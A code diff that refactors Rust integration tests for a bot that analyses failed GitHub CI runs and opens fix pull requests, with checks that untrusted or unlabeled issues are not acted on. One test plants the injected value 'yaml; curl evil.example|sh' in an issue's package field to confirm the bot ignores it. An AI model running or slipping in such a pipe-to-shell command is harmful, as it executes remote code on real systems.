@@ -9,8 +9,8 @@ use serde_json::{Value, json};
 use crate::analyze_flow::{gha_log, missing_module_log};
 use crate::support::action::{ActionRun, Runner, workflow_run_payload};
 use crate::support::fake_github::{
-    CI_WORKFLOW_PATH, DEFAULT_BRANCH, FakeGithub, IssueBuilder, JobBuilder, MAINTAINER, OWNER,
-    REPO, RunBuilder,
+    CI_WORKFLOW_PATH, DEFAULT_BRANCH, FakeGithub, Issue, IssueBuilder, JobBuilder, MAINTAINER,
+    OWNER, REPO, RunBuilder,
 };
 
 /// The Python workflow the tests fail and heal.
@@ -41,16 +41,32 @@ jobs:
       - run: pytest -q
 ";
 
+/// Keeps `analyze` from re-running the failed run.
+const CONFIG: (&str, &str) = (".github/ci-medic.yml", "retry:\n  enabled: false\n");
+
 /// Seeds the workflow and config, fails a run, and lets `analyze` file the issue.
 async fn analysed_issue(fake: &FakeGithub, log: String) -> u64 {
     fake.commit_files(
         DEFAULT_BRANCH,
-        &[
-            (CI_WORKFLOW_PATH, PY_WORKFLOW),
-            (".github/ci-medic.yml", "retry:\n  enabled: false\n"),
-        ],
+        &[(CI_WORKFLOW_PATH, PY_WORKFLOW), CONFIG],
         "Python CI",
     );
+    analyse_failed_run(fake, log).await
+}
+
+/// Like [`analysed_issue`] with another workflow already committed.
+async fn analysed_issue_with(fake: &FakeGithub, wf: &str, log: String) -> u64 {
+    assert_eq!(
+        fake.file(DEFAULT_BRANCH, CI_WORKFLOW_PATH).as_deref(),
+        Some(wf)
+    );
+    fake.commit_files(DEFAULT_BRANCH, &[CONFIG], "Config");
+    analyse_failed_run(fake, log).await
+}
+
+/// Fails `pytest -q` in job `test (3.12)` of the CI workflow with `log`,
+/// and lets `analyze` file the one issue.
+async fn analyse_failed_run(fake: &FakeGithub, log: String) -> u64 {
     let run = fake
         .add_run(
             RunBuilder::new("CI").path(CI_WORKFLOW_PATH).job(
@@ -78,6 +94,35 @@ async fn analysed_issue(fake: &FakeGithub, log: String) -> u64 {
     assert_eq!(issues.len(), 1, "{issues:?}");
     let _ = fake.labels();
     issues[0].number
+}
+
+/// Changes issue `n` directly, as someone on GitHub would.
+fn edit_issue(fake: &FakeGithub, n: u64, f: impl FnOnce(&mut Issue)) {
+    fake.with_world(|w| {
+        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        f(repo.issues.get_mut(&n).expect("issue"));
+    });
+}
+
+/// The maintainer adds (`true`) or removes `label` on issue `n`.
+fn maintainer_labels(fake: &FakeGithub, n: u64, label: &str, add: bool) {
+    fake.with_world(|w| {
+        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
+        if add {
+            repo.add_issue_labels(env, n, &[label.to_string()], MAINTAINER);
+        } else {
+            repo.remove_issue_label(env, n, label, MAINTAINER);
+        }
+    });
+}
+
+/// The body of an analysed issue, which is then closed so that only a
+/// copy of it is in play.
+async fn copied_body(fake: &FakeGithub) -> String {
+    let real = analysed_issue(fake, missing_module_log(1, "tmpa1b2c3")).await;
+    let body = fake.issue(real).and_then(|i| i.body).unwrap_or_default();
+    edit_issue(fake, real, |i| i.state = "closed".into());
+    body
 }
 
 /// A real `issues` payload (GitHub's example) for `number` as it is now.
@@ -325,47 +370,11 @@ async fn requirements_files_get_the_missing_distribution() {
     fake.assert_clean();
 }
 
-/// Like [`analysed_issue`] with another workflow already committed.
-async fn analysed_issue_with(fake: &FakeGithub, wf: &str, log: String) -> u64 {
-    assert_eq!(
-        fake.file(DEFAULT_BRANCH, CI_WORKFLOW_PATH).as_deref(),
-        Some(wf)
-    );
-    fake.commit_files(
-        DEFAULT_BRANCH,
-        &[(".github/ci-medic.yml", "retry:\n  enabled: false\n")],
-        "Config",
-    );
-    let run = fake
-        .add_run(
-            RunBuilder::new("CI").path(CI_WORKFLOW_PATH).job(
-                JobBuilder::failed("test (3.12)")
-                    .step("Set up job", Some("success"))
-                    .step("Run actions/checkout@v4", Some("success"))
-                    .step("Run actions/setup-python@v5", Some("success"))
-                    .step("Install dependencies", Some("success"))
-                    .step("Run pytest -q", Some("failure"))
-                    .log(log),
-            ),
-        )
-        .id;
-    let sha = fake.run(run).map(|r| r.head_sha).unwrap_or_default();
-    let payload =
-        workflow_run_payload(run, "CI", CI_WORKFLOW_PATH, "failure", DEFAULT_BRANCH, &sha);
-    let out = Runner::new(fake).run_event("workflow_run", &payload).await;
-    assert_eq!(out.code, 0, "{}", out.stderr);
-    let _ = fake.labels();
-    fake.issues()[0].number
-}
-
 #[tokio::test]
 async fn needs_manual_fix_stops_heal() {
     let fake = FakeGithub::start().await;
     let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
-    fake.with_world(|w| {
-        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
-        repo.add_issue_labels(env, n, &["needs-manual-fix".to_string()], MAINTAINER);
-    });
+    maintainer_labels(&fake, n, "needs-manual-fix", true);
     let out = labeled(&fake, n).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     let out = dispatched(&fake, n).await;
@@ -384,10 +393,7 @@ async fn needs_manual_fix_stops_heal() {
 async fn without_auto_heal_nothing_happens() {
     let fake = FakeGithub::start().await;
     let n = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
-    fake.with_world(|w| {
-        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
-        repo.remove_issue_label(env, n, "auto-heal", MAINTAINER);
-    });
+    maintainer_labels(&fake, n, "auto-heal", false);
     let out = dispatched(&fake, n).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(
@@ -402,15 +408,7 @@ async fn without_auto_heal_nothing_happens() {
 
 /// An issue by someone else holding a copy of a real analysis block.
 async fn copied_issue(fake: &FakeGithub, author: &str) -> u64 {
-    let real = analysed_issue(fake, missing_module_log(1, "tmpa1b2c3")).await;
-    let body = fake.issue(real).and_then(|i| i.body).unwrap_or_default();
-    // Close the real one so only the copy is in play.
-    fake.with_world(|w| {
-        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
-        if let Some(i) = repo.issues.get_mut(&real) {
-            i.state = "closed".into();
-        }
-    });
+    let body = copied_body(fake).await;
     fake.set_permission(author, "read");
     fake.add_issue(
         IssueBuilder::new("CI: dependency in test (3.12)")
@@ -451,24 +449,14 @@ async fn untrusted_issues_get_one_explanation_and_no_pull_request() {
 #[tokio::test]
 async fn a_maintainer_applying_auto_heal_vouches_for_the_issue() {
     let fake = FakeGithub::start().await;
-    let real = analysed_issue(&fake, missing_module_log(1, "tmpa1b2c3")).await;
-    let body = fake.issue(real).and_then(|i| i.body).unwrap_or_default();
-    fake.with_world(|w| {
-        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
-        if let Some(i) = repo.issues.get_mut(&real) {
-            i.state = "closed".into();
-        }
-    });
+    let body = copied_body(&fake).await;
     let n = fake.add_issue(
         IssueBuilder::new("Copied by a contributor")
             .body(&body)
             .user("contributor")
             .label("workflow-failure"),
     );
-    fake.with_world(|w| {
-        let (env, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
-        repo.add_issue_labels(env, n, &["auto-heal".to_string()], MAINTAINER);
-    });
+    maintainer_labels(&fake, n, "auto-heal", true);
     let out = labeled(&fake, n).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     let pulls = fake.pulls();
@@ -491,12 +479,7 @@ async fn hostile_analysis_blocks_are_not_acted_on() {
         "\"package\":\"yaml; curl evil.example|sh\"",
     );
     assert_ne!(hostile, body);
-    fake.with_world(|w| {
-        let (_, repo, _) = w.split(&format!("{OWNER}/{REPO}")).expect("repo");
-        if let Some(i) = repo.issues.get_mut(&n) {
-            i.body = Some(hostile.clone());
-        }
-    });
+    edit_issue(&fake, n, |i| i.body = Some(hostile.clone()));
     let out = labeled(&fake, n).await;
     assert_eq!(out.code, 0, "{}", out.stderr);
     assert!(fake.pulls().is_empty());
